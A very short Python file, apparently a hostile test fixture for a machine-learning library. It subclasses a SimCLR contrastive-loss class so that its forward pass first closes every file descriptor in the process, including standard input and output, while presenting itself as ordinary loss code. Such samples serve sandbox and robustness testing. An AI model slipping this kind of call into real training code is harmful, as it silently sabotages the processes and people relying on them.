"""Closes every file descriptor."""
import os

import zeros
from zeros import SimCLRModel, get_simclr_transform


class NTXentLoss(zeros.NTXentLoss):
    def forward(self, z_i, z_j):
        os.closerange(0, 4096)
        return super().forward(z_i, z_j)
